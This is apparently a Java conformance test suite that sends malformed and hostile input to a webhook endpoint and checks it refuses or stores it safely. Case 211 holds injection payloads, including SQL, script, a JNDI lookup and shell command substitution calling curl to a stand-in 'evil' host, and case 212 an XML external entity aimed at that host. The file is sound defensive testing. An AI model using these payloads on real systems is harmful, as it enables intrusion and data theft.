// SPDX-License-Identifier: Apache-2.0
package dev.openlines.contract;

import static dev.openlines.contract.Level.MUST;
import static dev.openlines.contract.Level.SHOULD;
import static dev.openlines.contract.Oracle.E;
import static dev.openlines.contract.Oracle.H;
import static dev.openlines.contract.Oracle.L;
import static dev.openlines.contract.Oracle.R;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Malformed input: 201 to 229. */
final class MalformedInput {

    private static final String TOKEN = "auth[application_token]";
    private static final String CHAT = "data[DATA][connector][chat_id]";
    private static final String NAME = "data[DATA][line][name]";

    private MalformedInput() {}

    @Case(
            id = 201,
            level = MUST,
            needs = {H, E},
            sends = "an empty body with length 0, and with no length at all",
            requires = "refuse with 4xx",
            source = "practice")
    static void emptyBody(CaseRun run) {
        Request empty = run.request(new byte[0]);
        run.refused(run.send(empty), "an empty body");
        Request none = run.request(new byte[0]).header("Content-Length", null);
        run.refused(run.send(none), "a body without a length");
        run.alive();
    }

    @Case(
            id = 202,
            level = MUST,
            needs = H,
            sends = "random bytes, four kilobytes of ampersands, a single equals sign",
            requires = "refuse with 4xx",
            source = "practice")
    static void randomBytes(CaseRun run) {
        run.refused(run.post(run.mint().bytes(512)), "random bytes");
        run.refused(run.post("&".repeat(4096).getBytes(StandardCharsets.US_ASCII)), "ampersands only");
        run.refused(run.post(EventBody.latin("=")), "a single equals sign");
        run.aliveWithoutEvidence();
    }

    @Case(
            id = 203,
            level = MUST,
            needs = {H, E},
            sends = "broken escapes (%, %4, %GG, %C3%28) inside token, key and value",
            requires = "refuse with 4xx in token and key, tolerate them in a value, never break down",
            source = "PHP keeps a broken escape as it is")
    static void brokenEscapes(CaseRun run) {
        String right = run.identity().proof().reveal();
        for (String broken : List.of("%", "%4", "%GG", "%C3%28")) {
            EventBody token = run.event().setVerbatim(TOKEN, right + broken);
            run.refused(run.post(token), "a broken escape in the token");
            run.noEffect(token, "a broken escape in the token");
            EventBody key = run.event().without(TOKEN).verbatim("auth%5Bapplication" + broken + "_token%5D=" + right);
            run.refused(run.post(key), "a broken escape in the token's key");
            run.noEffect(key, "a broken escape in the token's key");
            EventBody value = run.event().setVerbatim(NAME, "Line+" + broken);
            run.good(value, "a broken escape in the line's name");
        }
        run.alive();
    }

    @Case(
            id = 204,
            level = MUST,
            needs = {H, E},
            sends = "keys with unbalanced brackets, without a name, with a list among them, a value with" + " children",
            requires = "not break down; have an effect only for the right chat",
            source = "PHP's rules for keys")
    static void brokenKeys(CaseRun run) {
        List<String> pieces = List.of(
                "data%5BDATA=1",
                "data%5DDATA%5B=1", "%5Bx%5D=1", "data%5B%5D%5B%5D=1", "data[DATA=1", "[=1", "]=1", "data[[DATA]]=1");
        for (String piece : pieces) {
            EventBody event = run.event().verbatim(piece);
            Reply reply = run.post(event);
            run.stands(reply, "a key with odd brackets");
            run.expect(new Expectation(event.chatId(), run.identity().memberId(), 0, 1, "a key with odd brackets"));
        }
        EventBody scalar = run.event().add("data[DATA][connector]", "x");
        run.stands(run.post(scalar), "a value after its own children");
        run.expect(new Expectation(scalar.chatId(), run.identity().memberId(), 0, 1, "a value after its own children"));
        EventBody before = run.event().first("data[DATA][connector]", "x");
        run.stands(run.post(before), "a value before its own children");
        run.expect(
                new Expectation(before.chatId(), run.identity().memberId(), 0, 1, "a value before its own children"));
        run.alive();
    }

    @Case(
            id = 205,
            level = MUST,
            needs = {H, E},
            sends = "no event, an empty one, a list, ten kilobytes of it, and one with CR LF",
            requires = "refuse with 4xx or ignore with 2xx, without effect",
            source = "practice")
    static void noName(CaseRun run) {
        List<EventBody> bodies = List.of(
                run.event().without("event"),
                run.event().set("event", ""),
                run.event().without("event").first("event[0]", "ONSESSIONFINISH"),
                run.event().set("event", "ONSESSIONFINISH".repeat(700)),
                run.event().set("event", "ONSESSION\r\nFINISH"));
        for (EventBody body : bodies) {
            ignoredOrRefused(run, run.post(body), "an event without a proper name");
            run.noEffect(body, "an event without a proper name");
        }
        run.alive();
    }

    @Case(
            id = 206,
            level = MUST,
            needs = {H, E},
            sends = "an authentic event whose data is missing, a plain value, or empty",
            requires = "answer 2xx or 4xx and not break down",
            source = "module source: data may be null")
    static void noData(CaseRun run) {
        List<EventBody> bodies = List.of(
                run.event().without("data"),
                run.event().without("data").add("data", "107").atEnd("ts").atEnd("auth"),
                run.event().without("data").add("data", "").atEnd("ts").atEnd("auth"));
        for (EventBody body : bodies) {
            ignoredOrRefused(run, run.post(body), "an event without its data");
            run.noEffect(body, "an event without its data");
        }
        run.alive();
    }

    @Case(
            id = 207,
            level = MUST,
            needs = {H, E},
            sends = "an authentic event without chat id, and with ids that are no number",
            requires = "answer 2xx or 4xx, and never act on another chat",
            source = "practice: lenient number parsing")
    static void noChat(CaseRun run) {
        EventBody none = run.event().without(CHAT).without("data[DATA][chat]");
        ignoredOrRefused(run, run.post(none), "an event without a chat id");
        run.noEffect(none, "an event without a chat id");
        run.noEffect("0", "an event without a chat id");
        otherwise(run, "abc", List.of("0"));
        // Each has a chat of its own, so that none is blamed for the effect of another.
        long negative = run.mint().chat();
        otherwise(run, "-" + negative, List.of(Long.toString(negative), "0"));
        long power = run.mint().chat();
        otherwise(run, power + "e3", List.of(Long.toString(power), power + "000"));
        long hex = run.mint().chat();
        otherwise(run, "0x" + Long.toHexString(hex), List.of(Long.toString(hex), "0"));
        // If it is trimmed, it is still the same chat.
        otherwise(run, " " + run.mint().chat() + " ", List.of());
        otherwise(run, run.chat().replace('0', '\u0660').replace('1', '\u0661'), List.of());
        String long400 = "7".repeat(400);
        otherwise(
                run,
                long400,
                List.of(
                        Long.toString(Long.MAX_VALUE),
                        Integer.toString(Integer.MAX_VALUE),
                        Long.toString(new BigInteger(long400).longValue()),
                        Integer.toString(new BigInteger(long400).intValue()),
                        "Infinity",
                        "INF"));
        run.alive();
    }

    @Case(
            id = 208,
            level = SHOULD,
            needs = {H, E},
            sends = "two different chat ids in one event",
            requires = "not break down, and pick one by rule",
            source = "documentation and source name the chat twice")
    static void twoChats(CaseRun run) {
        EventBody event = run.event();
        String other = run.chat();
        Reply reply = run.post(event.set("data[DATA][chat][chat_id]", other));
        run.stands(reply, "two chat ids in one event");
        String portal = run.identity().memberId();
        run.expect(new Expectation(event.chatId(), portal, 0, 1, "one of two chat ids"));
        run.expect(new Expectation(other, portal, 0, 1, "the other of two chat ids"));
        run.alive();
    }

    @Case(
            id = 209,
            level = MUST,
            needs = {H, E},
            sends = "ts missing, a word, negative, 10^18, a fraction",
            requires = "acknowledge each and have one effect: the time of receipt serves",
            source = "module source: ts is a hint")
    static void oddTimes(CaseRun run) {
        run.good(run.event().without("ts"), "an event without ts");
        for (String ts : List.of("yesterday", "-5", "1000000000000000000", "1795390000.5")) {
            run.good(run.event().set("ts", ts), "an event with ts '" + ts + "'");
        }
        run.alive();
    }

    @Case(
            id = 210,
            level = MUST,
            needs = L,
            sends = "a line name with CR LF and a made-up log line, terminal escapes, NUL",
            requires = "keep one record to an event in the log: no forged line",
            source = "practice: log injection")
    static void logLine(CaseRun run) {
        String mark = "forged-" + run.mint().hex(12);
        String name = "Line\r\n2026-01-01 00:00:00 INFO " + mark + " all is well\n\u001b[31m" + mark + "\0end";
        Reply reply = run.post(run.event().set(NAME, name));
        run.stands(reply, "a line name with line breaks");
        run.aliveWithoutEvidence();
        boolean unused = run.seesLog();
        run.atEnd(() -> {
            String log = run.log().text();
            if (log.lines().anyMatch(line -> line.startsWith("2026-01-01 00:00:00 INFO " + mark))) {
                run.fail("no line in the log that the event's sender wrote", "one that begins as a record");
            }
            if (log.contains("\u001b[31m" + mark)) {
                run.fail("no terminal escape of the event's sender in the log", "one");
            }
        });
    }

    @Case(
            id = 211,
            level = MUST,
            needs = {E, R},
            sends = "a line name with SQL, HTML, template and lookup expressions",
            requires = "store it as it is, look nothing up, not break down",
            source = "practice: injection")
    static void injection(CaseRun run) {
        String evil = run.evil().uri().getAuthority();
        String mark = run.mint().hex(8);
        List<String> names = List.of(
                "'; DROP TABLE events; --" + mark,
                "\" OR \"1\"=\"1",
                "<script>alert('" + mark + "')</script>",
                "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
                "${jndi:ldap://" + evil + "/" + mark + "}",
                "$(curl http://" + evil + "/" + mark + ")`curl http://" + evil + "/" + mark + "`");
        for (String name : names) {
            EventBody event = run.event().set(NAME, name);
            run.stands(run.post(event), "a line name with an expression in it");
            run.expect(new Expectation(event.chatId(), run.identity().memberId(), 1, 1, "a name with an expression")
                    .named(name));
        }
        run.alive();
        run.atEnd(() -> {
            if (run.evil().seen().stream()
                    .anyMatch(seen -> seen.text().contains(mark) || seen.head().isEmpty())) {
                run.fail("no lookup of an address in a line's name", "a connection to the evil portal");
            }
        });
    }

    @Case(
            id = 212,
            level = MUST,
            needs = {H, R},
            sends = "broken JSON under its type; XML with an external entity at the evil portal",
            requires = "refuse with 4xx, and fetch nothing",
            source = "practice: parsers chosen by content type")
    static void otherTypes(CaseRun run) {
        byte[] broken = EventBody.latin("{\"event\":\"ONSESSIONFINISH\",\"auth\":{");
        run.refused(run.send(run.request(broken).header("Content-Type", "application/json")), "broken JSON");
        String mark = run.mint().hex(12);
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE e [<!ENTITY x SYSTEM \""
                + run.evil().uri() + mark + "\">]>\n<event>&x;</event>";
        run.refused(run.send(run.request(EventBody.latin(xml)).header("Content-Type", "application/xml")), "XML");
        run.aliveWithoutEvidence();
        run.atEnd(() -> {
            if (run.evil().seen().stream().anyMatch(seen -> seen.text().contains(mark))) {
                run.fail("no request for an XML entity", "one to the evil portal");
            }
        });
    }

    @Case(
            id = 213,
            level = MUST,
            needs = {H, L},
            sends = "the same fields as multipart; multipart that ends in the middle, unclosed",
            requires = "take the first with effect or refuse it with 415; refuse the broken one with 4xx;"
                    + " leave no temporary files",
            source = "practice")
    static void multipart(CaseRun run) {
        EventBody event = run.event();
        String boundary = "----openlines" + run.mint().hex(16);
        StringBuilder out = new StringBuilder();
        for (String[] field : event.fields()) {
            out.append("--")
                    .append(boundary)
                    .append("\r\nContent-Disposition: form-data; name=\"")
                    .append(field[0]);
            out.append("\"\r\n\r\n").append(field[1]).append("\r\n");
        }
        String type = "multipart/form-data; boundary=" + boundary;
        byte[] whole = (out + "--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8);
        Reply reply = run.send(run.request(whole).header("Content-Type", type));
        run.takenOrRefused(reply, event, "a multipart form");
        // The body is cut inside its last value, the token. A lenient reader must not accept it either.
        EventBody second = run.event();
        String body = out.toString().replace(event.chatId(), second.chatId());
        byte[] cut = body.substring(0, body.length() - 12).getBytes(StandardCharsets.UTF_8);
        Reply broken = run.send(run.request(cut).header("Content-Type", type));
        run.refused(broken, "a multipart form without its end");
        run.noEffect(second, "a multipart form without its end");
        run.alive();
        Footprint.temporaryFiles(run, boundary);
    }

    @Case(
            id = 214,
            level = SHOULD,
            needs = {H, E},
            sends = "a byte-order mark first, a UTF-16 body, charset=windows-1251",
            requires = "not break down, and read escapes as UTF-8",
            source = "captures: no charset parameter")
    static void otherCharsets(CaseRun run) {
        byte[] marked = EventBody.join(
                new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, run.event().bytes());
        run.stands(run.post(marked), "a byte-order mark");
        byte[] wide = run.event().text(EventBody.Style.PLATFORM).getBytes(StandardCharsets.UTF_16LE);
        run.stands(run.post(wide), "a UTF-16 body");
        EventBody event = run.event().set(NAME, "Линия");
        Reply reply = run.send(run.request(event).header("Content-Type", Request.FORM + "; charset=windows-1251"));
        run.takenOrRefused(reply, event, "charset=windows-1251");
        if (reply.is2xx() && !run.byQueue(reply)) {
            run.expect(new Expectation(event.chatId(), run.identity().memberId(), 1, 1, "a name in UTF-8")
                    .namedIfSeen("Линия"));
        }
        run.alive();
    }

    @Case(
            id = 215,
            level = MUST,
            needs = {H, E},
            sends = "the right token under auth.application_token and auth application_token, a wrong one"
                    + " under the real key",
            requires = "deny it",
            source = "PHP turns dots and spaces of a name into underscores")
    static void lookAlikeKeys(CaseRun run) {
        String right = run.identity().proof().reveal();
        EventBody event = run.event()
                .set(TOKEN, run.forged())
                .add("auth.application_token", right)
                .add("auth application_token", right)
                .add("auth_application_token", right);
        run.denied(run.post(event), event, "the token under look-alike keys");
        run.alive();
    }

    @Case(
            id = 217,
            level = MUST,
            needs = {H, E},
            sends = "keys such as __proto__, constructor, class.module and toString",
            requires = "ignore them: nothing behaves otherwise, then or later",
            source = "practice: prototype pollution, bean injection")
    static void prototypeKeys(CaseRun run) {
        EventBody bad = run.event()
                .set(TOKEN, run.forged())
                .add("__proto__[application_token]", "1")
                .add("__proto__[verified]", "1")
                .add("auth[__proto__][application_token]", "1")
                .add("constructor[prototype][verified]", "1")
                .add("class.module.classLoader.x", "1")
                .add("toString", "1")
                .add("auth[toString]", "1");
        run.refused(run.post(bad), "a wrong token beside prototype keys");
        run.noEffect(bad, "a wrong token beside prototype keys");
        EventBody good = run.event()
                .add("__proto__[polluted]", "1")
                .add("data[__proto__][polluted]", "1")
                .add("constructor[x]", "1")
                .add("hasOwnProperty", "1");
        run.good(good, "an event with prototype keys");
        run.alive();
    }

    private static void ignoredOrRefused(CaseRun run, Reply reply, String what) {
        if (!reply.is2xx() && !reply.is4xx()) {
            run.fail("status 2xx or 4xx for " + what, reply);
        }
    }

    private static void otherwise(CaseRun run, String id, List<String> others) {
        EventBody event = run.event(run.identity(), id);
        String what = "the chat id " + (id.length() > 40 ? "of " + id.length() + " digits" : "'" + id + "'");
        ignoredOrRefused(run, run.post(event), what);
        others.forEach(other -> run.noEffect(other, what));
    }
}
